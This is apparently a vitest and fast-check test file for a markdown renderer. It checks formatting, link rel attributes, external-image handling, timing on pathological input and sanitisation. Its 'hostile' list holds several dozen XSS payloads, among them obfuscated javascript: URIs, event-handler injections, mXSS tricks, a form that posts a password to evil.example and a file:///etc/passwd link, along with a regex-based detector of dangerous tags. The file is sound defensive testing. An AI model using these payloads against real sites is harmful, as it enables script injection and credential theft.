// Markdown: what people mean is shown, and nothing that they write becomes more than text and links.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { renderByParser, renderMarkdown } from "~/server/markdown/render";

describe("what people mean", () => {
  test.each([
    ["**fet**", "<p><strong>fet</strong></p>"],
    ["rad ett\nrad två", "<p>rad ett<br>\nrad två</p>"],
    ["~~fel~~", "<p><del>fel</del></p>"],
    ["# Rubrik", "<h4>Rubrik</h4>"],
    ["###### Djup", "<h6>Djup</h6>"],
    ["Promise<string> är en typ", "<p>Promise&lt;string&gt; är en typ</p>"],
    ["åäö & <3", "<p>åäö &amp; &lt;3</p>"],
  ])("%j becomes %s", (source, html) => {
    expect(renderMarkdown(source)).toBe(html);
  });

  test("lists, tables, quotes and code keep their shape", () => {
    const html = renderMarkdown(
      "- ett\n- två\n\n> citat\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a;\n```",
    );
    for (const shape of ["<ul>", "<blockquote>", "<table>", "<pre><code"]) expect(html).toContain(shape);
  });

  test("a table's columns are aligned without a style, which the page would not heed", () => {
    const html = renderMarkdown("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(html).toContain('<td align="left">1</td>\n<td align="right">2</td>');
    expect(html).not.toContain("style");
  });

  test("a list of tasks has named ticks that nobody can change", () => {
    const html = renderMarkdown("- [x] Ring Lund");
    expect(html).toMatch(/<input[^>]+disabled/);
    expect(html).toContain('aria-label="Ring Lund"');
  });
});

describe("links", () => {
  test.each([
    ["[Lund](https://lund.se)", "https://lund.se"],
    ["<https://lund.se/a?b=1&c=2>", "https://lund.se/a?b=1&amp;c=2"],
    ["se https://lund.se", "https://lund.se"],
    ["se www.lund.se", "http://www.lund.se"],
    ["[skriv](mailto:asa@lund.se)", "mailto:asa@lund.se"],
    ["[här](/w/1)", "/w/1"],
  ])("%j leads on, without telling where from", (source, href) => {
    const html = renderMarkdown(source);
    expect(html).toContain(`href="${href}"`);
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  test("a picture from elsewhere is a link to it, so that no other host learns who reads", () => {
    const html = renderMarkdown("![karta](https://spy.example/p.png)");
    expect(html).not.toContain("<img");
    expect(html).toMatch(/<a href="https:\/\/spy.example\/p.png"[^>]*>karta<\/a>/);
  });

  test("a picture within a link is that link's name, for links don't stand in links", () => {
    const html = renderMarkdown("[![karta](https://spy.example/p.png)](https://lund.se)");
    expect(html).toMatch(/^<p><a href="https:\/\/lund.se" [^>]*>karta<\/a><\/p>$/);
  });

  test.each(["lund.se", "bilaga.md", "ftp://lund.se", "//lund.se", "www.", "5.www"])(
    "%j is no address that anybody meant to lead on",
    (source) => expect(renderMarkdown(`se ${source}!`)).toBe(`<p>se ${source}!</p>`),
  );
});

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext></mtext><mglyph><style><img src="x" onerror="alert(1)">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)><form action="https://evil.example"><input name=password>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
  "<details open ontoggle=alert(1)>x</details>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://a.example/"onerror="alert(1))',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  "[x]: javascript:alert(1)\n\n[x]",
  '```"><script>alert(1)</script>\nx\n```',
  "`<script>alert(1)</script>`",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "fot[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '- [ ] "><script>alert(1)</script>',
];

const dangerous =
  /^(script|style|iframe|object|embed|svg|math|img|form|meta|base|link|video|audio|template|h[123])$/;

/** Reads the HTML as a browser does, tag by tag, and says what should not be there. */
function faultsOf(html: string): string[] {
  const found = [...html.matchAll(/<\/?([a-zA-Z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/g)];
  const strays = html.replace(/<\/?[a-z][a-z0-9]*(?: [a-z-]+(?:="[^"]*")?)*>/g, "").includes("<")
    ? ["a stray <"]
    : [];
  return found.reduce((faults, [tag, name = "", rest = ""]) => {
    if (dangerous.test(name.toLowerCase())) faults.push(tag);
    for (const [, attribute = "", value = ""] of rest.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      if (/^(on|style$|src|action|formaction|xlink)/i.test(attribute)) faults.push(tag);
      if (attribute === "href" && !/^(https?:|mailto:|\/|#|[^:]*$)/.test(value)) faults.push(tag);
    }
    return faults;
  }, strays);
}

describe("what somebody hostile writes", () => {
  test("is known by this test when it sees it", () => {
    const seen = [
      "<script>",
      '<a onclick="x">',
      '<a href="javascript:x">',
      '<p style="x">',
      "<img>",
      "a < b",
    ];
    for (const html of seen) expect(faultsOf(html), html).not.toEqual([]);
    expect(faultsOf('<p>a &lt; b <a href="https://lund.se" rel="nofollow">c</a></p>')).toEqual([]);
  });

  test.each(hostile)("%j becomes text, or nothing", (source) => {
    for (const written of [source, `Hej!\n\n${source}`, `> - ${source}`, `**${source}**`])
      expect(faultsOf(renderMarkdown(written)), written).toEqual([]);
  });

  test("stays harmless in any mixture", () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        ...["<", ">", '"', "'", "&lt;", "`", "\n", "\n\n", "](", "[", "![", "javascript:", "    ", "|", "*"],
      ),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(faultsOf(renderMarkdown(pieces.join("")))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  test("can't take over the names that the page goes by", () => {
    expect(renderMarkdown("fot[^body]\n\n[^body]: not")).not.toMatch(/id="(?!text-)/);
    expect(renderMarkdown('<a id="main" name="title">x</a>')).not.toMatch(/ (id|name)="/);
  });
});

describe("what is tangled", () => {
  const tangles = {
    quotes: ">",
    spaced: "> ",
    lists: "- ",
    mixed: "> - 1. ",
    stars: "**",
    knots: "*_",
    strikes: "~~a",
    brackets: "]",
    links: "[a](",
  };

  test.each(Object.entries(tangles))("%s without end are shown as written, soon", (_name, mark) => {
    const source = `${mark.repeat(8_000 / mark.length)}<b>`;
    const begun = performance.now();
    const html = renderMarkdown(source);
    expect(performance.now() - begun).toBeLessThan(1_000);
    expect(faultsOf(html)).toEqual([]);
    expect(html).toContain("&lt;b&gt;");
  });

  test("is not what people write: a quote in a quote, a line of stars", () => {
    expect(renderMarkdown("> > > ja")).toContain("<blockquote>");
    expect(renderMarkdown(`a\n\n${"*".repeat(80)}\n\nb`)).toContain("<hr>");
  });
});

test("a plain line is shown as the parser would show it", () => {
  const word = fc.constantFrom(
    "Hej",
    "då",
    "å",
    "i",
    "AB-12",
    "50%",
    "(ja)",
    '"nej"',
    "it's",
    "–",
    "1.",
    "a_b",
    "*",
    "www.",
    "a@b.se",
    "\n",
    "\n\n",
    "  ",
    "#",
    "+ ",
    "&",
    "http://x.se",
    "3.14",
    "...",
  );
  fc.assert(
    fc.property(
      fc.array(word, { minLength: 1, maxLength: 10 }),
      fc.constantFrom("", " ", "\n"),
      (words, between) => {
        const source = words.join(between).trim();
        expect(renderMarkdown(source)).toBe(renderByParser(source));
      },
    ),
    { numRuns: 500 },
  );
});
